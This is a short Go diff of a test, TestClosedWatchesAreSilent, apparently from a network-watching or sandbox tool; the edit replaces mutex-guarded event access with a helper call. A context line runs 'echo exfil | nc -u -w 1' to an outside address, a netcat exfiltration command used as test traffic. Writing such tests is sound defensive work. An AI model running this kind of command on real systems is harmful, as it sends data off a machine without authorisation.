@@ -177,10 +177,8 @@ func TestClosedWatchesAreSilent(t *testing.T) {
 	r.Close()
 	mine.Close() // which does nothing either
 	inside(t, "echo exfil | nc -u -w 1 "+outside4+" 10")
-	seen.mu.Lock()
-	defer seen.mu.Unlock()
-	if len(seen.events) != 1 {
-		t.Errorf("%d events: %+v", len(seen.events), seen.events)
+	if all := seen.All(); len(all) != 1 {
+		t.Errorf("%d events: %+v", len(all), all)
 	}
 }
 
